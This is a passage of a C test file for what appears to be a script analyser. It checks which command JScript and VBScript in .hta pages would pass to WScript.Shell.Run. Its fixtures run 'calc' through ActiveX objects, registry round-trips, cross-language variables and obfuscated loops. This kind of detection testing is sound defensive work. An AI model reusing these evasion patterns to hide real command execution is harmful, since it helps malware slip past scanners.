    { "a list in itself", "var a=[];a[0]=a;new ActiveXObject('WScript.Shell').Run('x'+a.length)",
      EFFECT_RUN, "command", "x1", KNOWN },
    { "broken code", "new ActiveXObject('WScript.Shell').Run('calc');var x = = 3", EFFECT_RUN,
      "command", "calc", PARTIAL },
};

static void effects(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH(&t, row, cases)
    {
        const struct effect_row r = { row->name,     "jscript", row->code,     row->kind,
                                      row->argument, row->want, row->certainty };
        effect_row_check(&t, &r);
    }
}

/* --- pages: what the other language does in between (jscript_mixed.c, jscript_registry.c) */

#define JS "<script>var s=new ActiveXObject('WScript.Shell'),k='HKCU\\\\Software\\\\x',v='ca',w;"
#define VBS "</script><script language=vbscript>\r\n"
#define JS_AGAIN "\r\n</script><script language=jscript>"

static const struct {
    const char *name, *source, *want;
    enum certainty certainty;
} pages[] = {
    { "by the registry",
      JS "s.RegWrite(k,v,'REG_SZ')" VBS "w = s.RegRead(k)\r\ns.RegDelete(k)" JS_AGAIN
         "s.Run(w+'lc')",
      "calc", KNOWN },
    { "a name for a root, and without case",
      JS "s.RegWrite(k,v+'l')" VBS "w = s.RegRead(\"HKEY_CURRENT_USER\\SOFTWARE\\X\")" JS_AGAIN
         "s.Run(w+'c')",
      "calc", KNOWN },
    { "an object, a remark, two on a line",
      JS VBS "' remark: x = 1\r\nDim q : Set q = CreateObject(\"WScript.Shell\"): Rem x" JS_AGAIN
             "q.Run(v+'lc')",
      "calc", KNOWN },
    { "texts are put together", JS VBS "w = \"a\\b\"\" \" & v & 7" JS_AGAIN "s.Run(w)",
      "a\\b\" ca7", KNOWN },
    { "an argument without brackets",
      JS VBS "s.RegWrite k, \"calc\"" JS_AGAIN "s.Run(s.RegRead(k))", "calc", KNOWN },
    { "a function of the other",
      "<script>var s=new ActiveXObject('WScript.Shell'),w;function f(x){"
      "return x+'lc'}" VBS "w = f(\"ca\")" JS_AGAIN "s.Run(w)",
      "calc", KNOWN },
    { "it comes first",
      "<script language=vbscript>\r\nw = \"ca\" & \"lc\"" JS_AGAIN
      "new ActiveXObject('WScript.Shell').Run(w)",
      "calc", KNOWN },
    { "what is not done may have changed a name",
      JS "w='calc'" VBS "If Second(Now) > 7 Then w = \"other\"" JS_AGAIN "s.Run('x'+w)",
      "x\xE2\x9F\x82", PARTIAL },
    { "in a round", JS VBS "For Each V In Array(1, 2)\r\nNext" JS_AGAIN "s.Run('x'+v)",
      "x\xE2\x9F\x82", PARTIAL },
    { "and others have not changed",
      JS "w='calc'" VBS "If Second(Now) > 7 Then other = 1" JS_AGAIN "s.Run(w)", "calc", KNOWN },
    { "never written", JS VBS "w = s.RegRead(k)" JS_AGAIN "s.Run('x'+w)", "x\xE2\x9F\x82",
      PARTIAL },
    { "written, then taken away",
      JS "s.RegWrite(k,v)" VBS "s.RegDelete(k)" JS_AGAIN "s.Run('x'+s.RegRead(k))", "x\xE2\x9F\x82",
      PARTIAL },
    { "to be expanded",
      JS "s.RegWrite(k,'%x%','REG_EXPAND_SZ');s.Run('x'+s.RegRead(k))" VBS JS_AGAIN,
      "x\xE2\x9F\x82", PARTIAL },
    { "written, perhaps",
      JS "s.RegWrite(k,'a');if(Math.random()>.5)s.RegWrite(k,'b');"
         "s.Run('x'+s.RegRead(k))" VBS JS_AGAIN,
      "x\xE2\x9F\x82", PARTIAL },
    { "under a name that is not known",
      JS "s.RegWrite(k,'a');s.RegWrite(k+Math.random(),'b');"
         "s.Run('x'+s.RegRead(k))" VBS JS_AGAIN,
      "x\xE2\x9F\x82", PARTIAL },
    { "a member that may be a call", JS VBS "w = s.CurrentDirectory" JS_AGAIN "s.Run('x'+w)",
      "x\xE2\x9F\x82", PARTIAL },
    { "a text without end", JS "w='a'" VBS "w = \"b" JS_AGAIN "s.Run('x'+w)", "x\xE2\x9F\x82",
      PARTIAL },
    { "a word of this language", JS "w='calc'" VBS "delete = \"x\"\r\nnew.b(1)" JS_AGAIN "s.Run(w)",
      "calc", KNOWN },
    { "a handler does nothing yet",
      JS "w='calc'" VBS JS_AGAIN "s.Run(w)</script><b onclick=\"w='d'\">"
         "<script>",
      "calc", KNOWN },
};

static void whole_pages(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH(&t, row, pages)
    {
        struct tally *r =
            tally_unmasked_file(&(struct tally_options){ .name = "a.hta" }, slice_of(row->source));
        const struct effect *e = tally_effect(r, EFFECT_RUN, 0);
        tally_check(r);
        if (!e || e->known != (row->certainty == KNOWN))
            table_wrong(&t, row->name, "%s", e ? e->known ? "known" : "partial" : "nothing");
        else
            table_slice(&t, row->name, tally_argument(e, "command"), row->want);
        tally_drop(&r);
    }
}

static const char busy[] =
    "var a='x',b=[1,,2],c={d:function(e){return e*2}};for(var i in "
    "b)if(Math.random()>i)a+=c.d(i);else b.push(a);\n"
    "try{eval('var q=/[a-z](b|c)*?/gi.exec(a)')}catch(e){}finally{a=`t${a}`}let {z=1,...y}=c;class "
    "K extends Object{m(){}}\n"
    "switch(a){case 1:break;default:new "
    "ActiveXObject('WScript.Shell').Run('a'+a.replace(/./g,x=>x))}";

static const char going_on[] =
    "function D(k){var t=[],u=0,v;for(var a=0;a<256;a++)t[a]=a;for(a=0;a<256;a++){u=(u+t[a]+"
    "k.charCodeAt(a%k.length))%256;v=t[a];t[a]=t[u];t[u]=v}return t[9]}var c,l=[],o={n:0};"
    "for(var q=0;q<12;q++)c=D('k'+(q&1));for(q=0;q<9;q++){"
    "l[q]=q?l[q-1]+o.n++:c;o['m'+q%3]=(l[q]+'').charCodeAt(q)||eval('q')?typeof c:-c}";
static const char table_of_texts[] = TABLE_OF_TEXTS "for(q=0;q<12;q++)c=D('aA1Ywo4=','k'+(q&1))";

static void every_beginning(void **state)
{
    (void)state;
    tally_beginnings("jscript", slice_of(busy));
    tally_beginnings("jscript", slice_of(going_on));
}

static void memory_fails_anywhere(void **state)
{
    (void)state;
    for (size_t n = 1; n < 600; n += n < 60 ? 1 : 7) {
        struct tally_options o = { .fail_at = n };
        struct tally *r = tally_unmasked("jscript", &o, slice_of(busy));
        tally_check(r);
        tally_drop(&r);
    }
    for (size_t n = 1; n < 4000; n += n / 12 + 1) {
        struct tally_options o = { .fail_at = n };
        struct tally *r = tally_unmasked("jscript", &o, slice_of(table_of_texts));
        tally_check(r);
        tally_drop(&r);
    }
}

/* Code that is nested deeper than is parsed: an engine runs it, so it cannot be clean. */
static void too_deep_is_said(void **state)
{
    (void)state;
    static const struct {
        const char *name, *open, *middle, *close;
        size_t n;
    } deep[] = {
        { "brackets", "(", "1", ")", 400 },
        { "arrays", "[", "1", "]", 400 },
        { "blocks", "{", "x=1", "}", 400 },
        { "functions", "(function(){", "", "})();", 400 },
        { "prefixes", "!", "1", "", 400 },
        { "objects", "x={a:", "1", "}", 400 },
        { "conditions", "if(1)", "x=1", "", 400 },
        { "assignments", "x=", "1", "", 400 },
        { "tries", "try{", "", "}catch(e){}", 400 },
        { "members", "", "x", ".a", 400 },
        { "templates", "`${", "1", "}`", 400 },
        { "else", "if(0);else ", "x=1", "", 12000 },
        { "what is not known", "if(new Date().getFullYear()>1){", "x=1", "}", 20 },
        { "JSON", "", "JSON.parse(Array(200).join('[')+Array(200).join(']'))", "", 1 },
    };
    struct table t = { 0 };
    TABLE_EACH(&t, row, deep)
    {
        struct buf code = buf_new(1 << 20);
        for (size_t k = 0; k < row->n; k++)
            buf_text(&code, row->open);
        buf_text(&code, row->middle);
        for (size_t k = 0; k < row->n; k++)
            buf_text(&code, row->close);
        struct tally *r = tally_unmasked("jscript", NULL, buf_slice(&code));
        table_true(&t, row->name, tally_unread(r, UNREAD_LIMIT));
        tally_drop(&r);
        buf_drop(&code);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(values_of_expressions), cmocka_unit_test(effects),
        cmocka_unit_test(whole_pages),           cmocka_unit_test(too_deep_is_said),
        cmocka_unit_test(every_beginning),       cmocka_unit_test(memory_fails_anywhere)
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
